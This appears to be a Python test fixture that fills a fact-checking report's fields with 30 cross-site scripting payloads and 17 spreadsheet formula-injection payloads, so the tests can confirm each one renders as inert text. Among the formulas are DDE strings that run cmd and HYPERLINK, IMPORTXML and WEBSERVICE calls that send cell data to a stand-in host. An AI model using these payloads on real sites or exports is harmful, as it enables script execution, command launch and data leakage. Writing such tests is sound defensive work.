"""Attacks on readers of a report: 30 scripts and markups, 17 formulas.

Each must be shown as text and do nothing. A script would call `canary()` or load from
canary.example."""

from dataclasses import replace

from articles.reports import Claim, ClaimReview, Comment, Report, Term
from tests.reports.made import (
    AT,
    SIGNED,
    a_capture,
    a_citation,
    a_claim,
    a_query,
    a_report,
    a_sign_off,
    a_source,
    a_verdict,
)

SCRIPTS = [
    "<script>canary()</script>",
    "</script><script>canary()</script>",
    "</style><script>canary()</script>",
    "</title><img src=x onerror=canary()>",
    "</textarea><svg onload=canary()>",
    '" onmouseover="canary()',
    "' autofocus onfocus='canary()",
    "` onclick=`canary()",
    "javascript:canary()",
    "JaVa\tScript:canary()",
    "data:text/html,<script>canary()</script>",
    "vbscript:canary()",
    "<svg/onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><script>canary()</script></svg>",
    "<math><mtext></p><style><img src=x onerror=canary()></style>",
    "<details open ontoggle=canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data='https://canary.example/o'></object>",
    "<link rel=stylesheet href=https://canary.example/s.css>",
    "<img src=https://canary.example/pixel.png>",
    "<style>@import 'https://canary.example/i.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<base href=https://canary.example/>",
    "<form action=https://canary.example/><button autofocus>go</button></form>",
    "<!-- --><b>bold</b><!--",
    "<![CDATA[<script>canary()</script>]]>",
    "{{ report.generator }}{% include 'x' %}${canary()}",
    "&lt;script&gt; &amp; &#60;script>canary()&#x3c;/script>",
    "[x](javascript:canary()) ![y](https://canary.example/y.png) <https://canary.example/>",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://canary.example?x="&A1,"click")',
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://canary.example/",A1),"//a")',
    '=WEBSERVICE("http://canary.example/")',
    '=DDE("cmd","/C calc","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
PAYLOADS = [*SCRIPTS, *FORMULAS]


def full_of_each() -> Report:
    """A report with a claim for each payload, which is also in all text fields of the claim."""
    text = "\n\n".join(f"Words {payload} words." for payload in PAYLOADS)
    claims, place = [], 0
    for number, payload in enumerate(PAYLOADS, start=1):
        start = text.index(payload, place)
        place = start + len(payload)
        claims.append(_claim(number, payload, text, (start, place)))
    return a_report(
        text,
        article=replace(
            a_report().article,
            title=SCRIPTS[0],
            byline=SCRIPTS[1],
            publisher=SCRIPTS[2],
            language=SCRIPTS[3],
        ),
        claims=tuple(claims),
        sources=tuple(
            a_source(number, title=payload, url=payload, captures=(a_capture(payload),))
            for number, payload in enumerate(PAYLOADS, start=1)
        ),
    )


def _claim(number: int, payload: str, text: str, span: tuple[int, int]) -> Claim:
    """Claims with an odd number have a verdict."""
    review = ClaimReview(
        "https://www.example.com/", payload, payload, payload, Term("person", "person")
    )
    verdict = a_verdict(payload, author=payload, sign_offs=(a_sign_off(payload, agrees=False),))
    is_judged = number % 2 == 1
    return a_claim(
        number,
        payload,
        text,
        span=span,
        note=payload,
        speakers=(payload,),
        verdicts=(verdict,) if is_judged else (),
        citations=(a_citation(payload, number),),
        queries=(a_query(payload),),
        comments=(Comment(payload, payload, AT),),
        state=SIGNED,
        signed_off_by=payload,
        review=review,
    )
